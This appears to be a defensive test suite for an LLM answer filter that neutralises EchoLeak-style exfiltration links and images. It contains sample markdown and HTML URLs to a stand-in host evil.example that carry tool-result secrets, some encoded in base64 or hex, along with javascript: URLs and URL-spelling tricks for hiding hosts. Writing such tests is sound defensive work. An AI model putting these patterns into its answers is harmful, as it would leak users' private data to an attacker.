"""Egress control in answers (T5, issue 31 item 4): `plugins.prompt_guard.egress` rewrites links and
images that would carry context data out (EchoLeak-style) as inert text, the same streamed or not."""

from __future__ import annotations

import base64
import random
from itertools import combinations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from plugins.prompt_guard.egress import (
    WINDOW,
    EgressContext,
    EgressPolicy,
    Neutralised,
    StreamingNeutraliser,
    neutralise,
)

TOOL = ("Order 7731 for Marta Kowalski, account hunter2secret, IBAN DE89 3704 0044 0532 0130 00, "
        "mail marta.k@corp.example. Manual: https://docs.example.org/guide/install?lang=en#setup")
USER = "Summarise my latest order, please."
POLICY = EgressPolicy(allowed_hosts=("*.Trusted.COM",))


def ctx() -> EgressContext:
    return EgressContext(untrusted=[TOOL], trusted=[USER])


def run(text: str, policy: EgressPolicy = POLICY, context: EgressContext | None = None) -> tuple[str, list[Neutralised]]:
    return neutralise(text, policy, context or ctx())


def stream(text: str, cuts: list[int], policy: EgressPolicy = POLICY) -> str:
    s = StreamingNeutraliser(policy, ctx())
    bounds = [0, *cuts, len(text)]
    return "".join(s.feed(text[a:b]) for a, b in zip(bounds, bounds[1:])) + s.flush()


def img(host: str, reason: str = "host_not_allowed") -> Neutralised:
    return Neutralised("image", host, reason)  # type: ignore[arg-type]


def link(host: str, reason: str = "carries_context_data", kind: str = "link") -> Neutralised:
    return Neutralised(kind, host, reason)  # type: ignore[arg-type]


def test_an_image_to_an_unknown_host_becomes_inert_text_naming_only_its_alt_and_host() -> None:
    # R: T5
    assert run('Chart: ![sales chart](https://evil.example/p.png?d=x "t") done') == (
        'Chart: image "sales chart" (evil.example, blocked) done', [img("evil.example")])
    assert run("![](//evil.example/p.png)") == ("image (evil.example, blocked)", [img("evil.example")])


def test_images_and_links_to_an_allowed_host_or_its_subdomains_are_kept() -> None:
    # R: T5
    kept = "![a](https://trusted.com/a.png) ![b](https://cdn.TRUSTED.com:8443/b.png?d=hunter2secret) [c](http://x.trusted.com/hunter2secret)"
    assert run(kept) == (kept, [])
    assert run("![a](https://trusted.com.evil.example/a.png) ![b](https://nottrusted.com/b.png)") == (
        'image "a" (trusted.com.evil.example, blocked) image "b" (nottrusted.com, blocked)',
        [img("trusted.com.evil.example"), img("nottrusted.com")])


def test_a_link_copied_verbatim_from_the_context_is_kept_up_to_case_trailing_slash_and_fragment() -> None:
    # R: T5
    text = ("[manual](https://docs.example.org/guide/install?lang=en#setup) "
            "[again](HTTPS://Docs.Example.org/guide/install?lang=en/#other) see https://docs.example.org/guide/install?lang=en.")
    assert run(text) == (text, [])
    mine = EgressContext(untrusted=["irrelevant tool text"], trusted=["compare https://shop.example/item/hunter2secret"])
    assert run("[item](https://shop.example/item/hunter2secret)", context=mine) == ("[item](https://shop.example/item/hunter2secret)", [])


def test_a_link_whose_query_or_path_carries_a_token_from_a_tool_result_is_neutralised() -> None:
    # R: T5
    assert run("Open [your account](https://evil.example/c?u=Kowalski&d=hunter2secret) now.") == (
        'Open link "your account" (evil.example, blocked) now.', [link("evil.example")])
    assert run("[x](https://evil.example/hunter2secret/x)") == ('link "x" (evil.example, blocked)', [link("evil.example")])
    assert run("[x](https://evil.example/?q=Kowalski%20hunter2secret+more)")[0] == 'link "x" (evil.example, blocked)'


def test_a_link_to_an_unknown_host_without_context_data_is_kept() -> None:
    # R: T5
    text = "See [the docs](https://python.org/3/tutorial) and https://evil.example/about."
    assert run(text) == (text, [])


def test_a_link_whose_url_carries_base64_or_hex_of_context_text_is_neutralised() -> None:
    # R: T5
    b64 = base64.b64encode(b"acct=hunter2secret;").decode()
    url64 = base64.urlsafe_b64encode(b"\xfb\xffMarta Kowalski").decode().rstrip("=")
    hexed = b"IBAN DE89370400440532013000".hex()
    for url in (f"https://evil.example/c?d={b64}", f"https://evil.example/c?d={url64}", f"https://evil.example/p/{hexed}",
                f"https://evil.example/c/{b64.replace('=', '%3D')}/end"):
        assert run(f"[go]({url})") == ('link "go" (evil.example, blocked)', [link("evil.example")]), url


def test_a_value_written_as_several_short_tokens_counts_as_one() -> None:
    # R: T5
    assert run("[a](https://evil.example/?iban=DE89370400440532013000) [b](https://evil.example/?m=marta.k%40corp.example)") == (
        'link "a" (evil.example, blocked) link "b" (evil.example, blocked)', [link("evil.example"), link("evil.example")])
    assert run("[c](https://evil.example/?iban=DE89+3704+0044+0532+0130+00)")[0] == 'link "c" (evil.example, blocked)'


def test_data_in_the_subdomain_userinfo_or_fragment_is_neutralised_too() -> None:
    # R: T5
    assert run("[a](https://hunter2secret.evil.example/) [b](https://hunter2secret@evil.example/) [c](https://evil.example/#hunter2secret)") == (
        'link "a" (hunter2secret.evil.example, blocked) link "b" (evil.example, blocked) link "c" (evil.example, blocked)',
        [link("hunter2secret.evil.example"), link("evil.example"), link("evil.example")])


def test_reference_images_are_judged_through_their_definition_before_or_after_it() -> None:
    # R: T5
    assert run("[logo]: https://evil.example/l.png\n\nSee ![the logo][logo] and ![logo].") == (
        '[logo]: https://evil.example/l.png\n\nSee image "the logo" (evil.example, blocked) and image "logo" (evil.example, blocked).',
        [img("evil.example"), img("evil.example")])
    assert run('See ![x][Logo]\n\n  [logo]: <https://evil.example/l.png> "title"\n') == (
        'See ![x][Logo]\n\n  image "logo" (evil.example, blocked)\n', [img("evil.example")])
    kept = "![x][t]\n\n[t]: https://cdn.trusted.com/t.png"
    assert run(kept) == (kept, [])


def test_a_reference_link_definition_carrying_context_data_is_neutralised() -> None:
    # R: T5
    assert run("Read [the file][f].\n\n[f]: https://evil.example/?d=hunter2secret 'T'") == (
        'Read [the file][f].\n\nlink "f" (evil.example, blocked)', [link("evil.example")])
    kept = "Read [the docs][d].\n\n[d]: https://python.org/docs"
    assert run(kept) == (kept, [])


def test_html_img_and_anchor_tags_are_judged_like_images_and_links() -> None:
    # R: T5
    text = ('<img alt="pie" src="https://evil.example/p.png"> <a href=\'https://evil.example/?d=hunter2secret\'>click</a>! '
            '<IMG SRCSET="https://cdn.trusted.com/a.png 1x, https://evil.example/b.png 2x"><a href="https://evil.example/x?hunter2secret">'
            '<b>bold</b></a>')
    assert run(text) == (
        'image "pie" (evil.example, blocked) link "click" (evil.example, blocked)! image (evil.example, blocked)'
        'link (evil.example, blocked)<b>bold</b></a>',
        [img("evil.example"), link("evil.example"), img("evil.example"), link("evil.example")])
    kept = '<a href="https://python.org/docs" title="ok">docs</a> <img src="https://cdn.trusted.com/a.png">'
    assert run(kept) == (kept, [])


def test_bare_urls_and_angle_bracket_autolinks_are_judged_as_autolinks() -> None:
    # R: T5
    assert run("Go to https://evil.example/c?d=hunter2secret. Or <https://evil.example/hunter2secret>, or "
               "(www.evil.example/hunter2secret).") == (
        "Go to link (evil.example, blocked). Or link (evil.example, blocked), or (link (www.evil.example, blocked)).",
        [link("evil.example", kind="autolink")] * 2 + [link("www.evil.example", kind="autolink")])
    kept = "Plain https://evil.example/about and <https://evil.example/> and <mailto:a@b.example> and wwwhunter2secret."
    assert run(kept) == (kept, [])


def test_data_and_javascript_urls_are_always_neutralised_even_without_untrusted_context() -> None:
    # R: T5
    text = ("[a](javascript:alert(document.cookie)) ![b](data:image/png;base64,AAAA) <a href=' JaVa&#83;cript:x'>c</a> "
            "<javascript:void(0)> [d](java&#x09;script:x)")
    want = ('link "a" (blocked) image "b" (blocked) link "c" (blocked) link (blocked) link "d" (blocked)',
            [link("", "host_not_allowed"), img(""), link("", "host_not_allowed"), link("", "host_not_allowed", "autolink"),
             link("", "host_not_allowed")])
    assert run(text) == want
    assert run(text, context=EgressContext(untrusted=[], trusted=[USER])) == want


def test_nothing_is_changed_when_the_context_holds_no_untrusted_text() -> None:
    # R: T5
    text = "![x](https://evil.example/p.png?d=hunter2secret) [y](https://evil.example/?d=hunter2secret) https://evil.example/hunter2secret"
    assert neutralise(text, POLICY, EgressContext(untrusted=["", ""], trusted=[TOOL])) == (text, [])
    s = StreamingNeutraliser(POLICY, EgressContext(untrusted=[], trusted=[TOOL]))
    assert s.feed(text) + s.flush() == text


def test_a_result_added_during_the_tool_loop_is_part_of_the_context() -> None:
    # R: T5
    context = EgressContext(untrusted=[], trusted=[USER])
    assert neutralise("[a](https://evil.example/?d=tokenfromlater)", POLICY, context)[0] == "[a](https://evil.example/?d=tokenfromlater)"
    context.add_untrusted("a result holding tokenfromlater")
    assert neutralise("[a](https://evil.example/?d=tokenfromlater)", POLICY, context)[0] == 'link "a" (evil.example, blocked)'


def test_with_images_keep_an_image_is_judged_like_a_link() -> None:
    # R: T5
    keep = EgressPolicy(images="keep")
    assert run("![a](https://evil.example/a.png) ![b](https://evil.example/b.png?d=hunter2secret)", keep) == (
        '![a](https://evil.example/a.png) image "b" (evil.example, blocked)', [img("evil.example", "carries_context_data")])


def test_link_texts_and_images_nested_in_links_are_judged_too() -> None:
    # R: T5
    assert run("[![pic](https://cdn.trusted.com/p.png)](https://evil.example/?d=hunter2secret) after") == (
        "[![pic](https://cdn.trusted.com/p.png)] link (evil.example, blocked) after", [link("evil.example")])
    assert run("[![pic](https://evil.example/p.png)](https://python.org)") == (
        '[image "pic" (evil.example, blocked)](https://python.org)', [img("evil.example")])
    assert run("[see https://evil.example/?d=hunter2secret](https://python.org)") == (
        "[see link (evil.example, blocked)](https://python.org)", [link("evil.example", kind="autolink")])


def test_url_spelling_tricks_do_not_hide_the_real_host() -> None:
    # R: T5
    for url in ("https://cdn.trusted.com\\@evil.example/p.png", "https:/\\evil.example/p.png", "HTTPS://evil%2Eexample/p.png",
                "https://evil\uff0eexample/p.png", "https&#58;//evil.example/p.png", "\thttps://ev\til.example/p.png",
                "https://cdn.trusted.com:443@evil.example/p.png"):
        assert run(f"![a](<{url}>)") == ('image "a" (evil.example, blocked)', [img("evil.example")]), url


def test_a_construct_split_over_lines_is_caught_through_its_bare_url() -> None:
    # R: T5
    assert run("![a\nb](https://evil.example/p.png) <img\nsrc=https://evil.example/q.png>") == (
        "![a\nb] image (evil.example, blocked) <img\nsrc=image (evil.example, blocked)>", [img("evil.example")] * 2)


def test_the_neutralised_output_holds_no_part_of_the_urls_path_or_query() -> None:
    # R: T5
    secret_parts = ("hunter2secret", "pathpart", "querypart", "c2VjcmV0", "evil.example/")
    forms = ["![a](https://evil.example/pathpart?q=querypart&d=hunter2secret)",
             "[a](https://evil.example/pathpart?q=querypart&d=hunter2secret 'title c2VjcmV0')",
             "https://evil.example/pathpart?q=querypart&d=hunter2secret", "<https://evil.example/pathpart?q=querypart&d=hunter2secret>",
             '<img src="https://evil.example/pathpart?q=querypart&d=hunter2secret">',
             "<a href=https://evil.example/pathpart?d=hunter2secret>x</a>", "[r]: https://evil.example/pathpart?d=hunter2secret",
             "https://evil.example/pathpart?d=hunter2secret" + "x" * (2 * WINDOW) + " end"]
    for form in forms:
        out, done = run(form)
        assert done and not any(part in out for part in secret_parts), (form, out)


EXAMPLES = [
    "Hi ![a](https://evil.example/p.png?d=1 \"t\") and [b](https://evil.example/?d=hunter2secret)!\nNext",
    "see https://evil.example/x?d=hunter2secret, <https://docs.example.org/guide/install> ok",
    "[r]: https://evil.example/r.png\n![x][r] ![r][] [k](https://python.org)",
    '<a href="https://evil.example/hunter2secret">t</a><img src=x.png> www.evil.example/hunter2secret.',
    "[![i](https://cdn.trusted.com/i.png)](https://evil.example/?q=hunter2secret) [a](javascript:x)",
    "[[[ ![ ]( <a <img http ww // ] ) > \n text",
]


def test_streaming_equals_non_streaming_for_every_two_and_three_piece_split_of_several_examples() -> None:
    # R: T5
    for text in EXAMPLES:
        want = run(text)[0]
        for k in (1, 2):
            for cuts in combinations(range(1, len(text)), k):
                assert stream(text, list(cuts)) == want, (text, cuts)
        assert stream(text, list(range(1, len(text)))) == want


PIECES = ["![a](https://evil.example/x.png \"t\")", "[b](https://evil.example/?q=hunter2secret)", "https://evil.example/?d=hunter2secret.",
          "<https://evil.example/hunter2secret>", '<img src="https://evil.example/p">', '<a href="https://evil.example/hunter2secret">',
          "</a>", "[r]: https://evil.example/hunter2secret", "![x][r]", "[", "]", "(", ")", "!", "<", ">", "h", "http", "www.", " ", "\n",
          "text", '"', "//evil.example/x", "src=", "](", "javascript:x", "x" * 40, "![a](https://cdn.trusted.com/i.png)", "\\", "`"]


@settings(max_examples=300, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PIECES), max_size=30), st.lists(st.integers(1, 12), max_size=60))
def test_streaming_equals_non_streaming_for_any_answer_split_into_any_deltas(pieces: list[str], sizes: list[int]) -> None:
    # R: T5
    text = "".join(pieces)
    s, out, i = StreamingNeutraliser(POLICY, ctx()), [], 0
    for size in sizes:
        out.append(s.feed(text[i:i + size]))
        i += size
    out.append(s.feed(text[i:]) + s.flush())
    assert "".join(out) == run(text)[0]
    assert s.neutralised == run(text)[1]


def test_streaming_equals_non_streaming_across_window_boundaries_for_random_splits() -> None:
    # R: T5
    rnd = random.Random(5)
    for _ in range(40):
        text = "".join(rnd.choice(PIECES + ["y" * 700, "https://evil.example/" + "z" * 2100]) for _ in range(rnd.randint(1, 14)))
        cuts = sorted(rnd.sample(range(1, len(text)), min(len(text) - 1, rnd.randint(1, 30)))) if len(text) > 1 else []
        assert stream(text, cuts) == run(text)[0]


def test_streaming_sends_plain_text_at_once_and_holds_back_only_an_unfinished_construct() -> None:
    # R: T5
    s = StreamingNeutraliser(POLICY, ctx())
    assert s.feed("Hello there, ") == "Hello there, "
    assert s.feed("look: ![a](https://evil") == "look: "
    assert s.feed(".example/x.png) and [this") == 'image "a" (evil.example, blocked) and '
    assert s.feed(" is no link\nnext h") == "[this is no link\nnext "
    assert s.feed("ere") == "here"
    assert s.flush() == ""
    assert s.neutralised == [img("evil.example")]


def test_a_held_back_tail_is_released_as_plain_text_at_the_window() -> None:
    # R: T5
    s = StreamingNeutraliser(POLICY, ctx())
    text = "[" + "a" * (3 * WINDOW)
    out = s.feed(text)
    assert out == text[:len(out)] and len(text) - len(out) < WINDOW
    assert out + s.flush() == text


def test_a_url_longer_than_the_window_is_neutralised_whole_unless_its_host_is_allowed() -> None:
    # R: T5
    long_path = "/a" * WINDOW
    assert run(f"go https://evil.example{long_path}?d=1 end") == ("go link (evil.example, blocked) end", [link("evil.example", kind="autolink")])
    kept = f"go https://cdn.trusted.com{long_path} end"
    assert run(kept) == (kept, [])


def test_adversarial_megabyte_inputs_return() -> None:
    # R: T5
    context = ctx()
    for text in ("[" * 1_000_000, "<" * 1_000_000, "w" * 1_000_000, "[a](" + "(" * 1_000_000, '<a title="' + "x" * 1_000_000,
                 "![a](" * 100_000, "[" * 200_000, "](" * 100_000, "<a " * 100_000, '<img src="' * 50_000, "[x]:" * 50_000):
        assert neutralise(text, POLICY, context) == (text, [])
    s = StreamingNeutraliser(POLICY, context)
    text = "![a](" * 100_000
    assert "".join(s.feed(text[i:i + 4096]) for i in range(0, len(text), 4096)) + s.flush() == text
    out, done = run("http://" * 150_000)
    assert (out, done) == ("link (http, blocked)", [link("http", kind="autolink")])


def test_the_policy_normalises_hosts_and_rejects_bad_settings() -> None:
    # R: T5
    assert EgressPolicy(allowed_hosts=(" *.Example.COM. ", "", "Trusted.com")).allowed_hosts == ("example.com", "trusted.com")
    for bad in ({"images": "never"}, {"min_token": 0}):
        try:
            EgressPolicy(**bad)  # type: ignore[arg-type]
        except ValueError:
            continue
        raise AssertionError(bad)
